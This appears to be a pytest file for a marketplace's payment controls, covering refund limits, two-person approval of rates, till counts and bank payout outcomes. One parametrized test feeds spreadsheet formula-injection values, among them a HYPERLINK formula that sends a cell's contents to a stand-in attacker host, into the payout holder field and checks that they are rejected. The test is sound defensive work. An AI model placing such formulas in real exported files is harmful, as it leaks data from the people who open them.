"""What one person alone may not do with money: sums add up, nobody agrees to their own, and nothing else moved."""

from datetime import date

import pytest
from sqlalchemy import delete

from market import clock
from market.db import db, transaction
from market.payments.ledger import accounts
from market.payments.ledger.accounts import Kind
from market.payments.rates.models import Rate, RateProposal
from market.payments.rates.queries import rate
from tests.support.paying import broken, held
from tests.support.village import (
    CHI_LANG_OFFICE,
    a_clerk,
    a_product,
    a_shop_with_money,
    an_operator,
    calling,
    delivered_order,
    fill_till,
    fresh_code,
    money,
    owner_of,
    seller_of,
)

BANK = {"bank_bin": "970405", "number": "8400205123456", "holder": "Hoàng Thị Lan"}
TILL = f"/post-offices/{CHI_LANG_OFFICE}/till/movements"


@pytest.fixture(autouse=True)
def rates(app):
    """The rates as they were: what installations begin with is kept from test to test."""
    yield
    later = date(2030, 1, 1)
    transaction(lambda: db.session.execute(delete(Rate).where(Rate.from_day >= later)))
    transaction(lambda: db.session.execute(delete(RateProposal)))


def dear_order():
    """A delivered order worth more than what one person may give back."""
    return delivered_order(product=a_product(price_vnd=1_200_000))


def give_back(order, amount_vnd, by):
    return calling(by).post(f"/orders/{order.number}/refunds", {"amount_vnd": amount_vnd}).json["state"]


def test_small_refunds_of_one_order_add_up(app) -> None:
    order, operator = dear_order(), an_operator()
    states = [give_back(order, amount, operator) for amount in (300_000, 200_000, 1)]
    assert states == ["settled", "settled", "requested"]
    assert held(Kind.PERSON, str(order.buyer_id)) == 500_000


def test_they_add_up_for_another_operator_and_for_the_household_too(app) -> None:
    order = dear_order()
    assert give_back(order, 500_000, an_operator()) == "settled"
    assert [give_back(order, 1, an_operator()), give_back(order, 1, seller_of(order))] == ["requested", "requested"]


def test_small_refunds_of_many_orders_add_up_in_a_day(app) -> None:
    operator, orders = an_operator(), [dear_order(), dear_order(), dear_order()]
    assert [give_back(order, 250_000, operator) for order in orders] == ["settled", "settled", "requested"]


def test_what_another_agreed_to_does_not_count_against_who_asked(app) -> None:
    operator, first, second = an_operator(), dear_order(), dear_order()
    asked = calling(operator).post(f"/orders/{first.number}/refunds", {"amount_vnd": 600_000}).json
    assert calling(an_operator()).put(f"/refunds/{asked['id']}/approval").status_code == 200
    assert give_back(second, 500_000, operator) == "settled"


def test_nobody_gives_money_back_to_themselves_or_agrees_to_it(app) -> None:
    buyer = an_operator()
    order = delivered_order(buyer=buyer)
    asked = calling(buyer).post(f"/orders/{order.number}/refunds", {"amount_vnd": 1_000}).json
    assert asked["state"] == "requested"
    mine = calling(an_operator()).post(f"/orders/{dear_order().number}/refunds", {"amount_vnd": 600_000}).json
    assert calling(buyer).put(f"/refunds/{asked['id']}/approval").json["type"] == "second-operator-needed"
    assert calling(buyer).put(f"/refunds/{mine['id']}/approval").status_code == 200
    assert (held(Kind.PERSON, str(buyer.id)), broken()) == (0, [])


def rated(by, value, day="2030-01-01", name="second_approval_vnd"):
    answer = calling(by).post("/rates", {"name": name, "from_day": day, "value": value})
    return answer.status_code


def test_a_rate_that_is_a_bare_number_is_told_how_it_is_written(app) -> None:
    sent = {"name": "commission_percent", "from_day": "2030-01-01", "value": 2.5}
    told = calling(an_operator()).post("/rates", sent).json["errors"]["value"]
    assert told == ['Ghi số trong dấu nháy, như "2.5".']


def test_a_rate_holds_once_a_second_operator_wants_the_same(app) -> None:
    first, second = an_operator(), an_operator()
    assert [rated(first, "10000000000"), rated(first, "10000000000")] == [202, 202]
    assert calling(second).get("/rates?waiting=true").json["items"][0]["value"] == "10000000000"
    assert all(item["value"] != "10000000000" for item in calling(second).get("/rates").json["items"])
    assert [rated(second, "700000"), rated(second, "700000"), rated(first, "10000000000")] == [202, 202, 202]
    assert [rated(second, "10000000000"), calling(first).get("/rates?waiting=true").json["items"]] == [201, []]


def test_what_two_agreed_on_stays_until_two_agree_on_another(app) -> None:
    later = {"name": "commission_percent", "day": "2031-01-01"}
    first, second = an_operator(), an_operator()
    assert [rated(first, "1", **later), rated(second, "1", **later)] == [202, 201]
    assert rated(first, "99", **later) == 202
    in_force = [item for item in calling(first).get("/rates").json["items"] if item["from_day"] == "2031-01-01"]
    assert [item["value"] for item in in_force] == ["1"]
    assert rate("commission_percent", clock.now()) != "99"


def test_a_count_far_from_the_books_is_counted_by_two(app) -> None:
    fill_till(2_000_000)
    clerk, till = a_clerk(), accounts.till(CHI_LANG_OFFICE)
    count = {"kind": "count", "amount_vnd": 1_000_000}
    assert [calling(clerk).post(TILL, count).status_code for _ in range(2)] == [202, 202]
    assert (money(till), len(calling(clerk).get(TILL).json["items"])) == (2_000_000, 1)
    assert calling(a_clerk()).post(TILL, count | {"amount_vnd": 1_000_001}).status_code == 202
    assert calling(an_operator()).post(TILL, count).status_code == 201
    assert (money(till), broken()) == (1_000_000, [])


def test_what_two_counted_lets_nobody_count_the_same_alone_later(app) -> None:
    fill_till(2_000_000)
    count = {"kind": "count", "amount_vnd": 1_000_000}
    assert [calling(a_clerk()).post(TILL, count).status_code for _ in range(2)] == [202, 201]
    fill_till(1_000_000)
    assert calling(a_clerk()).post(TILL, count).status_code == 202
    assert money(accounts.till(CHI_LANG_OFFICE)) == 2_000_000


def test_operators_count_and_do_nothing_else_at_a_till(app) -> None:
    for kind in ("opening", "replenishment", "deposit", "hand_in"):
        assert calling(an_operator()).post(TILL, {"kind": kind, "amount_vnd": 1}).status_code in (403, 404)
    assert money(accounts.till(CHI_LANG_OFFICE)) == 0


@pytest.mark.parametrize("count_vnd", [1_500_000, 2_500_000])
def test_a_count_within_the_set_sum_stands_at_once(app, count_vnd) -> None:
    fill_till(2_000_000)
    assert calling(a_clerk()).post(TILL, {"kind": "count", "amount_vnd": count_vnd}).status_code == 201
    assert money(accounts.till(CHI_LANG_OFFICE)) == count_vnd


def sent_payout(operator):
    """The shop's owner, and the id of 100,000 đồng that `operator` sent to her bank."""
    shop = a_shop_with_money(300_000)
    owner = owner_of(shop)
    calling(owner).put("/me/payout-account", BANK | fresh_code(calling(owner)))
    asked = calling(owner).post(f"/shops/{shop.id}/payouts", {"amount_vnd": 100_000}).json["id"]
    calling(operator).post("/payout-files")
    return shop, asked


def test_who_sent_money_does_not_say_that_it_came_back(app) -> None:
    operator = an_operator()
    shop, asked = sent_payout(operator)
    file = calling(operator).get("/payout-files").json["items"][0]["id"]
    failed = calling(operator).put(f"/payouts/{asked}/outcome", {"outcome": "failed"})
    told = calling(operator).put(
        f"/payout-files/{file}/answer", data=f"id,outcome\n{asked},failed\n", content_type="text/csv"
    )
    assert [failed.json["type"], told.json["type"]] == ["second-operator-needed"] * 2
    assert money(accounts.shop(shop.id)) == 200_000
    assert calling(an_operator()).put(f"/payouts/{asked}/outcome", {"outcome": "failed"}).status_code == 200
    assert (money(accounts.shop(shop.id)), broken()) == (300_000, [])


def test_who_sent_money_says_that_it_arrived(app) -> None:
    operator = an_operator()
    _, asked = sent_payout(operator)
    assert calling(operator).put(f"/payouts/{asked}/outcome", {"outcome": "paid"}).status_code == 200


@pytest.mark.parametrize("outcome", ["paid", "failed"])
def test_an_operator_ends_no_payout_of_her_own(app, outcome) -> None:
    shop = a_shop_with_money(300_000, owner=an_operator())
    owner = owner_of(shop)
    calling(owner).put("/me/payout-account", BANK | fresh_code(calling(owner)))
    asked = calling(owner).post(f"/shops/{shop.id}/payouts", {"amount_vnd": 100_000}).json["id"]
    calling(an_operator()).post("/payout-files")
    answer = calling(owner).put(f"/payouts/{asked}/outcome", {"outcome": outcome})
    assert answer.json["type"] == "second-operator-needed"


@pytest.mark.parametrize(
    "holder", ['=HYPERLINK("http://evil.example/?x="&C2,"OK")', "@SUM(A1)", "+84", "-1", "Lan\t=1", "Lan|x", "1A"]
)
def test_no_holder_is_a_formula(app, holder) -> None:
    owner = owner_of(a_shop_with_money(1))
    assert (
        calling(owner).put("/me/payout-account", BANK | {"holder": holder} | fresh_code(calling(owner))).status_code
        == 422
    )
    assert calling(owner).get("/me/payout-account").status_code == 404


@pytest.mark.parametrize("holder", ["Hoàng Thị Lan", "H'Hen Niê", "CONG TY TNHH 1TV DO-TA", "Đ. V. Tý"])
def test_names_of_people_and_firms_are_holders(app, holder) -> None:
    owner = owner_of(a_shop_with_money(1))
    assert (
        calling(owner).put("/me/payout-account", BANK | {"holder": holder} | fresh_code(calling(owner))).json["holder"]
        == holder
    )
